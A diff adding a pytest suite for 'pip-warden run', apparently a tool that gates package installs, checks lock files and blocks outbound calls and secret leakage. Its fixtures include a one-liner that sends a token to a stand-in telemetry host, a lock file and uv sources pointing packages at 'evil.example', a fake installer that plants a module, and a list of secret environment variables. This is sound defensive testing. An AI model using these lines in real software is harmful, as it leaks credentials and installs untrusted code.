@@ -1,0 +1,299 @@
+"""pip-warden run: the order of a run, from its words to its report."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from flow.user import Run, User
+from hearing import hearing
+from installers.witness import LONGEST_WAIT, Witness, is_held
+from pip_warden.cli.run_command import command as run_command
+from pip_warden.sandbox import Project
+
+UV = str(Path(sys.executable).with_name("uv"))
+PIP_WARDEN = str(Path(sys.executable).with_name("pip-warden"))
+ASK = "import urllib.request as r; r.urlopen('http://elsewhere.example/telemetry?token=hunter2')"
+DAEMON = "import sys, time; print('daemon', file=open(sys.argv[1], 'a'), flush=True); time.sleep(600)"
+BLOCKED = f"""
+import os, subprocess, sys, time
+subprocess.Popen([sys.executable, "-c", {DAEMON!r}, sys.argv[1]], start_new_session=True)
+pipe = open(sys.argv[1], "a")
+print("command", os.environ["HTTP_PROXY"], file=pipe, flush=True)
+time.sleep(600)
+"""
+LEAKS = [
+    "AWS_SECRET_ACCESS_KEY",
+    "CURL_CA_BUNDLE",
+    "GIT_CONFIG_GLOBAL",
+    "HARMLESS",
+    "HTTPS_PROXY",
+    "PIP_CERT",
+    "PIP_EXTRA_INDEX_URL",
+    "SSL_CERT_DIR",
+    "UV_INDEX",
+    "UV_SYSTEM_CERTS",
+    "no_proxy",
+]
+EVIL_LOCK = """version = 1
+revision = 3
+requires-python = ">=3.10"
+
+[[package]]
+name = "idna"
+version = "3.20"
+source = { registry = "https://evil.example/simple" }
+wheels = [
+    { url = "https://evil.example/idna-3.20-py3-none-any.whl", hash = "sha256:%s" },
+]
+"""
+
+
+def ran(user: User, *words: str, options: tuple[str, ...] = ()) -> Run:
+    """Type pip-warden run."""
+    return user.type(*options, "--", *words, command=run_command, name="pip-warden run")
+
+
+def pip(user: User, *words: str) -> tuple[str, ...]:
+    """Return a command line of the user's own pip."""
+    return (sys.executable, "-m", "pip", "--python", str(user.target), *words)
+
+
+def uv_project(user: User, project: Project, more: str = "") -> None:
+    """Make a project of the user's own, which depends on the package of a GitLab project."""
+    index = f"{user.sandbox.gitlab_url}/api/v4/projects/{project.record.id}/packages/pypi/simple"
+    (user.home / "pyproject.toml").write_text(
+        '[project]\nname = "mine"\nversion = "1"\nrequires-python = ">=3.10"\n'
+        f'dependencies = ["{project.record.name}"]\n'
+        f'[[tool.uv.index]]\nname = "acme"\nurl = "{index}"\ndefault = true\n{more}'
+    )
+
+
+def false_uv(user: User, script: str) -> str:
+    """Make a program that is called uv."""
+    program = user.home / "bin" / "uv"
+    program.parent.mkdir()
+    program.write_text(f"#!/bin/sh\n{script}\n")
+    program.chmod(0o755)
+    return str(program)
+
+
+def test_the_users_own_pip_installs_what_was_accepted(user: User) -> None:
+    project = user.published()
+    run = ran(user, *pip(user, "install", project.record.name))
+
+    assert (run.code, run.document["installer_exit_code"]) == (0, 0), run.output
+    assert user.installed() == {project.record.name: "1.0"}
+    assert run.accepted == {f"{project.record.name}-1.0-py3-none-any.whl"}
+    assert "compared with what was accepted: 1 distribution the same" in run.output
+
+
+def test_a_denial_ends_the_users_own_pip(user: User) -> None:
+    project = user.published(forms=())
+    before = user.snapshot()
+    run = ran(user, *pip(user, "install", project.record.name))
+
+    assert (run.code, "no-evidence" in run.codes, user.snapshot()) == (1, True, before), run.output
+    assert run.document["installer_exit_code"] != 0
+
+
+def test_a_lock_names_the_real_registry_and_stays_as_it_is(user: User) -> None:
+    project = user.published()
+    uv_project(user, project)
+    locked = ran(user, UV, "lock")
+    lock = (user.home / "uv.lock").read_bytes()
+    assert locked.code == 0, locked.output
+    assert f'registry = "{user.sandbox.gitlab_url}'.encode() in lock
+    (line,) = locked.document["files"]
+    assert line["note"] == "not used: only its metadata was asked for"
+
+    synced = ran(user, UV, "sync", "--locked", "--no-install-project", options=("--strict",))
+    assert synced.code == 0, synced.output
+    assert (user.home / "uv.lock").read_bytes() == lock
+    assert "1 distribution the same" in synced.output
+
+
+def test_an_unpinned_name_in_a_lock_is_refused_with_all_others(user: User) -> None:
+    project = user.published(pinned=False)
+    uv_project(user, project)
+    lock = EVIL_LOCK % ("a" * 64)
+    (user.home / "uv.lock").write_text(lock.replace("https://evil.example/simple", user.sandbox.gitlab_url))
+    run = ran(user, UV, "lock")
+
+    assert (run.code, "not-pinned" in run.codes) == (1, True), run.output
+    assert {"idna", project.record.name} <= {name["project"] for name in run.document["unpinned"]}
+
+
+def test_a_setting_that_leads_elsewhere_is_refused_before_anything_is_started(user: User) -> None:
+    sources = '[tool.uv.sources]\nother = {git = "https://evil.example/a"}\nmore = {url = "https://evil.example/b.whl"}\n'
+    uv_project(user, user.project(), sources)
+    run = ran(user, false_uv(user, "touch started"), "lock")
+
+    assert (run.code, run.codes, run.document["installer_exit_code"]) == (1, {"leads-elsewhere"}, None)
+    assert {line["file"].rpartition(" (")[2] for line in run.document["files"]} == {"line 11)", "line 12)"}
+    assert not (user.home / "started").exists()
+
+
+def test_a_lock_entry_from_elsewhere_is_refused(user: User) -> None:
+    (user.home / "new.lock").write_text(EVIL_LOCK % ("a" * 64))
+    for words in ((false_uv(user, "cp new.lock uv.lock"), "lock"), ("cp", "new.lock", "uv.lock")):
+        run = ran(user, *words)
+        assert (run.code, run.outcome("idna 3.20"), run.codes) == (1, "refused", {"not-through-gate"}), (
+            run.output
+        )
+        (user.home / "uv.lock").unlink()
+
+
+def test_what_is_in_an_environment_and_came_past_the_gate_is_refused(user: User) -> None:
+    site = user.site.relative_to(user.target)
+    uv = false_uv(user, f"mkdir .venv/{site}/evil-1.0.dist-info && echo > .venv/{site}/evil.py")
+    uv_project(user, user.project())
+    shutil.copytree(user.target, user.home / ".venv", symlinks=True)
+    run = ran(user, uv, "sync")
+
+    assert (run.code, run.codes) == (1, {"not-through-gate"}), run.output
+    assert any("evil" in line["file"] for line in run.document["files"])
+
+
+def test_an_unknown_command_is_run_and_not_compared(user: User) -> None:
+    run = ran(user, "true")
+    assert (run.code, run.document["error"]) == (0, None)
+    assert run.document["warnings"] == ["true is no tool that is known: what it installed is not compared"]
+
+    strict = ran(user, "true", options=("--strict",))
+    assert (strict.code, strict.codes) == (1, {"strict"})
+
+
+def test_a_lock_that_cannot_be_read_is_not_compared(user: User) -> None:
+    (user.home / "uv.lock").write_text("no lock")
+    run = ran(user, false_uv(user, "true"), "lock")
+    assert (run.code, len(run.document["warnings"])) == (0, 1), run.output
+    assert ran(user, str(user.home / "bin/uv"), "lock", options=("--strict",)).code == 1
+
+
+@pytest.mark.parametrize("word", ["no-such-program", "./no-such-program", "/nowhere/pip", "."])
+def test_what_is_no_program_is_told(user: User, word: str) -> None:
+    run = ran(user, word)
+    assert (run.code, run.codes) == (2, {"no-such-command"})
+
+
+@pytest.mark.parametrize(
+    ("script", "found"), [("exit 3", "exit code 3"), ("kill -SEGV $$", "signal SIGSEGV")]
+)
+def test_a_command_that_fails(user: User, script: str, found: str) -> None:
+    run = ran(user, "sh", "-c", script)
+    assert (run.code, run.codes) == (4, {"command-failed"})
+    assert found in run.document["error"]["message"]
+
+
+def test_what_cannot_be_started_has_failed(user: User) -> None:
+    program = user.home / "program"
+    program.write_text("#!/nowhere/interpreter\n")
+    program.chmod(0o755)
+    run = ran(user, str(program))
+    assert (run.code, run.codes) == (4, {"command-failed"})
+
+
+def test_a_command_that_was_stopped_at_the_gate_and_failed(user: User) -> None:
+    run = ran(user, sys.executable, "-c", ASK)
+    assert (run.code, run.codes) == (1, {"outside-the-gate"})
+    assert "http://elsewhere.example/telemetry" in run.document["error"]["message"]
+    assert "hunter2" not in run.output
+
+
+def test_a_command_that_was_stopped_at_the_gate_and_went_on(user: User) -> None:
+    run = ran(user, sys.executable, "-c", f"try:\n    {ASK}\nexcept OSError: pass")
+    assert run.code == 0
+    assert any("stopped at the gate" in text and "elsewhere" in text for text in run.document["warnings"])
+    assert "hunter2" not in run.output
+
+
+def test_the_environment_is_closed(user: User, capfd: pytest.CaptureFixture[str]) -> None:
+    for name in LEAKS:
+        user.patch.setenv(name, "hunter2")
+    words = (sys.executable, "-c", "import json, os; print(json.dumps(dict(os.environ)))")
+    capfd.readouterr()
+    assert ran(user, *words, options=("--pass-env", "LANG")).code == 0
+    out, err = capfd.readouterr()
+    seen = json.loads(err)
+
+    assert (out, [name for name, value in seen.items() if "hunter2" in value]) == ("", [])
+    assert "SSL_CERT_DIR" not in seen
+    assert user.token not in err
+    assert seen["GIT_ALLOW_PROTOCOL"] == seen["NO_PROXY"] == ""
+    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "PIP_CERT"):
+        assert seen[name].startswith(seen["HOME"].partition("/child/")[0])
+
+
+def test_a_secret_is_not_passed_on(user: User) -> None:
+    run = ran(user, "true", options=("--pass-env", "GITLAB_TOKEN"))
+    assert (run.code, run.codes) == (2, {"secret-variable"})
+
+
+def test_standard_output_is_the_commands_or_the_reports(user: User) -> None:
+    words = (PIP_WARDEN, "run", "--", "sh", "-c", "cat; echo --format json")
+    done = subprocess.run(words, input="in\n", capture_output=True, text=True, check=False)
+    assert (done.returncode, done.stdout) == (0, "in\n--format json\n")
+    assert "is no tool that is known" in done.stderr
+
+    done = subprocess.run(
+        (PIP_WARDEN, "run", "--format", "json", *words[2:]),
+        input="in\n",
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert json.loads(done.stdout)["command"] == "run"
+    assert "in\n--format json\n" in done.stderr
+
+
+@pytest.mark.parametrize("words", [("run",), ("run", "--")])
+def test_a_command_is_needed(user: User, words: tuple[str, ...]) -> None:
+    run = user.type(*words[1:], command=run_command, name="pip-warden run")
+    assert (run.code, run.codes) == (2, {"usage"})
+
+
+@contextlib.contextmanager
+def started(user: User, *words: str) -> Iterator[subprocess.Popen[str]]:
+    """Type a command in a terminal of its own, with its own directory for temporary files."""
+    temporary = user.home / "tmp"
+    temporary.mkdir()
+    with subprocess.Popen(
+        hearing(PIP_WARDEN, "run", "--", *words),
+        env={**os.environ, "TMPDIR": str(temporary)},
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    ) as process:
+        try:
+            yield process
+        finally:
+            process.kill()
+
+
+@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
+def test_b08_told_to_end(user: User, number: signal.Signals, code: int) -> None:
+    with (
+        Witness(user.home / "witness") as witness,
+        started(user, sys.executable, "-c", BLOCKED, str(witness.path)) as process,
+    ):
+        port = urlsplit(witness.words(2)["command"][0]).port or 0
+        assert is_held(port)
+        process.send_signal(number)
+        process.communicate(timeout=LONGEST_WAIT)
+        assert process.returncode == code
+        assert witness.all_gone()
+    assert not is_held(port)
+    assert not list((user.home / "tmp").iterdir())
